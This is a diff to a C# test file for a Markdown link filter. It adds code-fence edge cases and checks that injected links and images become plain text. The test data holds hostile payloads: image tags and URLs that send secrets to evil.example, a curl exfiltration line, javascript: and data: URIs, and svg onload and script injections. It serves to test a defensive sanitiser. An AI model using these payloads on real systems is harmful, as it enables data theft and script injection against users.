@@ -22,6 +22,8 @@ public sealed partial class LinkFilterTests
     [InlineData("Put `<title>` into the `<head>`.")]
     [InlineData("Open `https` on port 443: it is 10:30.")]
     [InlineData("```\n<img src=\"logo.png\">\ncurl https://api.example/x\n```")]
+    [InlineData("1. Write:\n\n   ```html\n   x\n\n   ```\n\n```\n<b>\n```")]
+    [InlineData("~~~\n<b>\n~~~ \r\n```\n<i>\n```")]
     [InlineData("- [ ] one\n- [x] two\n\nSee [1] and note: this.")]
     public void What_is_allowed_stays(string text) => Assert.Equal(text, Filter.Apply(text));
 
@@ -31,6 +33,8 @@ public sealed partial class LinkFilterTests
     [InlineData("!!![x](https://evil.example/p.gif)", "[x] (evil.example/p.gif)")]
     [InlineData("!//@[x](https://help.example/p.gif)", "!…[x](https://help.example/p.gif)")]
     [InlineData("![x](https://help.example/p.gif)", "[x](https://help.example/p.gif)")]
+    [InlineData("https://evil.example/a!\\[x](https://help.example/p.gif)", "evil.example/a[x](https://help.example/p.gif)")]
+    [InlineData("<https://help.example/a!>[x](https://help.example/p.gif)", "help.example/a[x](https://help.example/p.gif)")]
     [InlineData("<https://evil.example/?d=secret>", "evil.example")]
     [InlineData("See https://user:secret@evil.example/a#secret.", "See evil.example/a.")]
     [InlineData("See https://help.example/x?d=secret", "See help.example/x")]
@@ -43,6 +47,22 @@ public sealed partial class LinkFilterTests
     [InlineData("```\ncurl https://evil.example/?d=secret\n```", "```\ncurl evil.example\n```")]
     public void What_is_not_becomes_plain_words(string text, string plain) => Assert.Equal(plain, Filter.Apply(text));
 
+    /// <summary>What opens a fence for one reader and closes it for another, or is nothing to it, leaves no code that stays as it is.</summary>
+    [Theory]
+    [InlineData(" ~~~\n~~~\n")]
+    [InlineData("```\n ```\n")]
+    [InlineData("```\n```\u00a0\n```\n")]
+    [InlineData("````\n```\n")]
+    [InlineData("   ```\nx\n   ```\n```\n")]
+    [InlineData("   ```\n   ~~~\n```\n")]
+    [InlineData("> ```\n```\n")]
+    [InlineData("1. ```\n```\n")]
+    [InlineData("```a`\n```\n")]
+    [InlineData("$$\n```\n$$\n")]
+    [InlineData(":::\n```\n:::\n")]
+    public void T16_Code_that_is_none_for_every_reader_is_filtered(string before) =>
+        Assert.EndsWith("‹img src=evil.example/p›", Filter.Apply(before + "<img src=https://evil.example/p?d=secret>"));
+
     /// <summary>Attacks in any mixture and nesting, read by a Markdown reader that takes everything: HTML, autolinks, bare addresses.</summary>
     [Fact]
     public void T16_No_mixture_of_attacks_makes_a_live_link_or_image()
@@ -54,7 +74,7 @@ public sealed partial class LinkFilterTests
             "https&#58;//evil.example/", "&#104;ttps://evil.example/", "https\\://evil.example/", "https://help.example@evil.example/", "https://help.example.evil.example/", "https://help.example/?d=secret", "https://help.example\\@evil.example",
             "javascript:alert(1)", "java\tscript:alert(1)", "data:text/html;base64,PHM+", "mailto:evil@evil.example?body=secret", "ftp://evil.example/", "evil@evil.example",
             "<img src=https://evil.example/p?d=secret>", "<a href='//evil.example'>", "</a>", "<script>", "<!-- ", " -->", "<![CDATA[", "<?php ", "<svg onload=alert(1)>", "<iframe src=\"https://evil.example\">", "<b>", "`<b>`",
-            "[a](https://help.example/ok)", "https://help.example/ok", "Hello", "~~~\n", "```html\n",
+            "[a](https://help.example/ok)", "https://help.example/ok", "Hello", "~~~\n", "```html\n", "```\n", " ~~~\n", "   ```\n", "\t```\n", "````\n", "$$\n", ":::\n", "^^^\n",
         ];
         var text = Gen.ListOf(Gen.Elements(pieces)).Select(parts => string.Concat(parts.Take(24)));
         Prop.ForAll(text.ToArbitrary(), written =>
